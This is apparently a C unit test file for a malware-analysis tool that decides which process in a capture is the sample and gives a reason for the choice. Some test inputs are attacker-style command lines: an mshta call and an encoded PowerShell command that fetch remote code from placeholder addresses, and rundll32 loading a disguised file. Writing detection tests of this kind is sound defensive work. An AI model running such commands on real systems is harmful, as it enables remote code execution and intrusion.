#include "case_world.h"

static void a_guess_takes_the_most_consequential(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Users\\bob\\Downloads\\readme.exe", "readme");
    kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
    writes(self, sample, DROP);
    kk_process_id drop = starts(self, sample, DROP, DROP);
    writes(self, drop, "C:\\Users\\bob\\a.dll");
    writes(self, drop, "C:\\Users\\bob\\b.dll");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), sample);
    assert_true(kk_case_sample_presumed(self->result));
    kk_str reason = kk_case_sample_reason(self->result);
    assert_int_equal(reason.size, strlen("Explorer started it from Desktop"));
    assert_memory_equal(reason.data, "Explorer started it from Desktop", reason.size);
}

static void nothing_plausible_gives_no_sample(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Windows\\notepad.exe", "notepad C:\\Users\\bob\\a.txt");
    starts(self, self->explorer, "C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe", "procmon");
    starts(self, self->explorer, "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
           "onedrive");
    starts(self, self->explorer, "C:\\Program Files\\App\\app.exe", "app");
    starts(self, self->scheduler, "C:\\Users\\bob\\AppData\\Local\\Updater\\up.exe", "up");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), KK_NO_PROCESS);
    assert_false(kk_case_sample_presumed(self->result));
}

static void a_script_is_a_sample_through_its_host(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Windows\\System32\\wscript.exe", "wscript.exe C:\\Windows\\x.vbs");
    kk_process_id host =
        starts(self, self->explorer, "C:\\Windows\\System32\\wscript.exe",
               "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\bob\\Downloads\\invoice 1.js\"");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), host);
    kk_str reason = kk_case_sample_reason(self->result);
    assert_memory_equal(reason.data, "Explorer started it with invoice 1.js from Downloads", reason.size);
}

static void assert_reason(const world *self, const char *wanted)
{
    kk_str reason = kk_case_sample_reason(self->result);
    assert_int_equal(reason.size, strlen(wanted));
    assert_memory_equal(reason.data, wanted, reason.size);
}

static void hosts_are_samples_by_what_they_were_told(void **state)
{
    static const struct {
        const char *host, *command_line, *folder, *reason;
    } HOSTED[] = {
        {"rundll32.exe", "rundll32 C:/Users/Public/Music/a.db,Start", NULL,
         "with a.db from C:/Users/Public/Music"},
        {"mshta.exe", "mshta http://203.0.113.5/a", NULL, "with an address on the web"},
        {"powershell.exe",
         "powershell -e JABzAD0AJwBoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQA5AC8AYQAnADsAaQB3", NULL,
         "with an encoded command"},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c start rundll32 a\\b.dat,#1", "F:\\", "in F:\\"},
        {"powershell.exe", "powershell -c \"C:\\Windows\\a.exe C:\\Users\\bob\\Downloads\\b.txt\"", NULL,
         "with b.txt from Downloads"},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /c dir", "C:\\Users\\bob\\", NULL},
        {"cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\"", "F:\\", NULL},
        {"winword.exe", "winword https://example.com/a.docx", NULL, NULL},
        {"winword.exe", "winword /n C:\\Users\\bob\\Desktop\\a.docx", NULL, "with a.docx from Desktop"},
        {"outlook.exe", "outlook /c ipm.note /a C:\\Users\\bob\\Desktop\\a.docx", NULL, NULL},
        {"notepad.exe", "notepad C:\\Users\\bob\\a.txt", "F:\\", NULL},
    };
    (void)state;
    for (size_t i = 0; i < sizeof HOSTED / sizeof *HOSTED; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        char image[64];
        snprintf(image, sizeof image, "C:\\Windows\\System32\\%s", HOSTED[i].host);
        kk_process_id host = starts(self, self->explorer, image, HOSTED[i].command_line);
        if (HOSTED[i].folder) {
            self->source->source.processes.items[host]->current_directory = kk_str_of(HOSTED[i].folder);
        }
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->result), HOSTED[i].reason ? host : KK_NO_PROCESS);
        if (HOSTED[i].reason) {
            char reason[128];
            snprintf(reason, sizeof reason, "Explorer started it %s", HOSTED[i].reason);
            assert_reason(self, reason);
        }
        close_world(&own);
    }
}

static void assert_guess(const char *command_line, bool is_sample)
{
    void *own;
    open_world(&own);
    world *self = own;
    kk_process_id host = starts(self, self->explorer, "C:\\Windows\\System32\\wscript.exe", command_line);
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), is_sample ? host : KK_NO_PROCESS);
    close_world(&own);
}

/* Of hundreds of thousands of paths each byte is looked at a few times: read to the end at each of them, the
 * test would take minutes. */
static void long_command_lines_are_read_once(void **state)
{
    static const char *const paths[] = {"C:\\Windows\\a", "'C:\\Windows\\a", "C:\\Windows\\a;"};
    const size_t count = 100000;
    (void)state;
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        size_t size = strlen(paths[i]);
        char *line = malloc(count * size + 64);
        assert_non_null(line);
        size_t at = (size_t)snprintf(line, 64, "wscript.exe ");
        for (size_t j = 0; j < count; j++, at += size) {
            memcpy(line + at, paths[i], size);
        }
        line[at] = '\0';
        assert_guess(line, false);
        snprintf(line + at, 52, " C:\\Users\\bob\\Downloads\\a.js");
        assert_guess(line, true);
        free(line);
    }
}

static void what_began_it_all_is_the_sample(void **state)
{
    world *self = *state;
    kk_process_id wmi = fake_process(self->source, 900, self->services, "WmiPrvSE.exe",
                                     "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", NULL, BEFORE);
    kk_process_id host =
        starts(self, wmi, "C:\\Windows\\System32\\rundll32.exe", "rundll32 C:\\Users\\Public\\a.dll,Start");
    kk_process_id shell = starts(self, host, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
    kk_process_id below = starts(self, shell, DROP, DROP);
    writes(self, below, "C:\\Users\\bob\\a.dll");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), host);
}

static void without_a_start_what_ran_before_is_the_sample(void **state)
{
    static const struct {
        const char *image, *company;
        bool is_sample;
    } BEFORE_IT[] = {
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", "", true},
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", "Example", false},
        {"C:\\Users\\bob\\AppData\\Roaming\\x\\a.exe", NULL, false},
        {"C:\\Program Files\\x\\a.exe", "", false},
    };
    (void)state;
    for (size_t i = 0; i < sizeof BEFORE_IT / sizeof *BEFORE_IT; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        kk_process_id old =
            fake_process(self->source, 77, self->explorer, "a.exe", BEFORE_IT[i].image, "a.exe", BEFORE);
        if (BEFORE_IT[i].company) {
            self->source->source.processes.items[old]->company = kk_str_of(BEFORE_IT[i].company);
        }
        writes(self, old, "C:\\Users\\bob\\a.dll");
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->result), BEFORE_IT[i].is_sample ? old : KK_NO_PROCESS);
        if (BEFORE_IT[i].is_sample) {
            assert_reason(self, "it ran before the capture began, from AppData\\Roaming\\x");
        }
        close_world(&own);
    }
}

static void what_a_program_made_is_not_the_sample(void **state)
{
    world *self = *state;
    kk_process_id linker =
        starts(self, self->explorer, "C:\\Program Files\\Tools\\link.exe", "link /OUT:a.exe");
    writes(self, linker, "C:\\Users\\bob\\project\\a.exe");
    kk_process_id built = starts(self, self->explorer, "C:\\Users\\bob\\project\\a.exe", "a.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), KK_NO_PROCESS);
    assert_tie(self, built, KK_TIE_NONE, KK_NO_PROCESS);
}

static void what_an_archive_tool_unpacked_is_the_sample(void **state)
{
    world *self = *state;
    kk_process_id archiver = starts(self, self->explorer, "C:\\Program Files\\7-Zip\\7zFM.exe", "7zFM.exe");
    writes(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe");
    kk_process_id sample =
        starts(self, archiver, "C:\\Users\\bob\\AppData\\Local\\Temp\\7zO1\\a.exe", "a.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), sample);
}

static void a_management_agents_shell_is_no_users(void **state)
{
    world *self = *state;
    kk_process_id agent =
        starts(self, self->services, "C:\\Windows\\System32\\winrshost.exe", "winrshost -Embedding");
    kk_process_id shell = starts(self, agent, "C:\\Windows\\System32\\cmd.exe", "cmd /c x");
    starts(self, shell, "C:\\Windows\\System32\\msiexec.exe", "msiexec /i C:\\Windows\\Temp\\a.msi /qn");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), KK_NO_PROCESS);
}

static void interpreters_count_by_what_they_run(void **state)
{
    world *self = *state;
    starts(self, self->explorer, "C:\\Python27\\python.exe",
           "\"C:\\Python27\\python.exe\" C:\\tools\\Noriben.py");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), KK_NO_PROCESS);
}

static void a_sample_started_by_a_sandboxs_agent(void **state)
{
    world *self = *state;
    kk_process_id agent = starts(self, self->explorer, "C:\\Python27\\python.exe", "python C:\\agent.py");
    kk_process_id sample = starts(self, agent, "C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe", "s.exe");
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), sample);
}

static void folders_of_other_languages_and_versions_are_users_folders(void **state)
{
    static const char *const PLACES[] = {
        "C:\\Documents and Settings\\Administrator\\Desktop\\a.exe",
        "C:\\Dokumente und Einstellungen\\Bob\\Eigene Dateien\\a.exe",
        "E:\\a.exe",
        "\\\\vmware-host\\Shared Folders\\in\\a.exe",
        "C:\\malware\\a.exe",
        "C:\\Windows\\Temp\\a.exe",
    };
    (void)state;
    for (size_t i = 0; i < sizeof PLACES / sizeof *PLACES; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        kk_process_id sample = starts(self, self->explorer, PLACES[i], PLACES[i]);
        find_sample(self, NULL);
        assert_int_equal(kk_case_sample(self->result), sample);
        close_world(&own);
    }
}

static void found(world *self, const char *id, kk_severity severity, kk_process_id process)
{
    const kk_rule_info rule = {.id = kk_str_of(id), .title = KK_STR("t"), .severity = severity};
    assert_non_null(kk_case_finding(self->result, kk_case_add_rule(self->result, &rule), process, KK_STR("k"),
                                    NULL, -1, &self->scratch));
}

static void what_rules_found_decides_between_candidates(void **state)
{
    world *self = *state;
    kk_process_id first = starts(self, self->explorer, SAMPLE, SAMPLE);
    kk_process_id second = starts(self, self->explorer, DROP, DROP);
    for (char name[] = "C:\\Users\\bob\\a.dll"; name[13] < 'k'; name[13]++) {
        writes(self, first, name);
    }
    found(self, "a.medium", KK_MEDIUM, first);
    found(self, "a.critical", KK_CRITICAL, second);
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), second);
    assert_reason(self, "Explorer started it from AppData\\Local\\Temp\\x");
}

static void a_shell_is_the_sample_where_most_began(void **state)
{
    world *self = *state;
    kk_process_id shell = starts(self, self->explorer, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    kk_process_id tool = starts(self, shell, DROP, DROP);
    kk_process_id other = starts(self, shell, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin");
    found(self, "a.high", KK_HIGH, tool);
    found(self, "b.high", KK_HIGH, shell);
    found(self, "a.critical", KK_CRITICAL, other);
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), shell);
    assert_reason(self, "Explorer started it, and most of what rules found began there");
}

static void kernel_and_services_are_never_presumed(void **state)
{
    world *self = *state;
    fake_process(self->source, 88, KK_NO_PROCESS, "Registry", "Registry", NULL, BEFORE);
    kk_process_id service =
        starts(self, self->services, "C:\\ProgramData\\x\\s.exe", "C:\\ProgramData\\x\\s.exe");
    found(self, "a.critical", KK_CRITICAL, service);
    find_sample(self, NULL);
    assert_int_equal(kk_case_sample(self->result), KK_NO_PROCESS);
}

static void the_sample_is_named_by_pid_path_or_name(void **state)
{
    static const char *const NAMES[] = {"SAMPLE.exe", "sample", "c:\\users\\BOB\\desktop\\sample.exe", NULL};
    (void)state;
    for (size_t i = 0; i < sizeof NAMES / sizeof *NAMES; i++) {
        void *own;
        open_world(&own);
        world *self = own;
        fake_process(self->source, 77, KK_NO_PROCESS, "sample.exe", "D:\\old\\sample.exe", "old", BEFORE);
        kk_process_id sample = starts(self, self->explorer, SAMPLE, SAMPLE);
        char pid[16];
        snprintf(pid, sizeof pid, "%u", kk_processes_get(&self->source->source.processes, sample)->pid);
        find_sample(self, NAMES[i] ? NAMES[i] : pid);
        assert_int_equal(kk_case_sample(self->result), sample);
        close_world(&own);
    }
}

static void an_unknown_sample_is_an_error_that_lists_what_there_is(void **state)
{
    world *self = *state;
    starts(self, self->explorer, SAMPLE, SAMPLE);
    const char *const wanted[] = {"other.exe"};
    const kk_sample_choice choice = {.wanted = wanted, .count = 1};
    kk_error error;
    assert_true(kk_tree_build(self->result, &error));
    assert_false(kk_tree_find_sample(self->result, &choice, &error));
    assert_non_null(strstr(error.text, "other.exe"));
    assert_non_null(strstr(error.text, "sample.exe"));
    assert_non_null(strstr(error.text, "fake.pml"));
}

/* --- activities and findings --- */

int main(void)
{
    const struct CMUnitTest tests[] = {
        WORLD_TEST(a_guess_takes_the_most_consequential),
        WORLD_TEST(nothing_plausible_gives_no_sample),
        WORLD_TEST(a_script_is_a_sample_through_its_host),
        WORLD_TEST(hosts_are_samples_by_what_they_were_told),
        cmocka_unit_test(long_command_lines_are_read_once),
        WORLD_TEST(what_began_it_all_is_the_sample),
        WORLD_TEST(without_a_start_what_ran_before_is_the_sample),
        WORLD_TEST(what_a_program_made_is_not_the_sample),
        WORLD_TEST(what_an_archive_tool_unpacked_is_the_sample),
        WORLD_TEST(a_management_agents_shell_is_no_users),
        WORLD_TEST(interpreters_count_by_what_they_run),
        WORLD_TEST(a_sample_started_by_a_sandboxs_agent),
        cmocka_unit_test(folders_of_other_languages_and_versions_are_users_folders),
        WORLD_TEST(what_rules_found_decides_between_candidates),
        WORLD_TEST(a_shell_is_the_sample_where_most_began),
        WORLD_TEST(kernel_and_services_are_never_presumed),
        cmocka_unit_test(the_sample_is_named_by_pid_path_or_name),
        WORLD_TEST(an_unknown_sample_is_an_error_that_lists_what_there_is),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
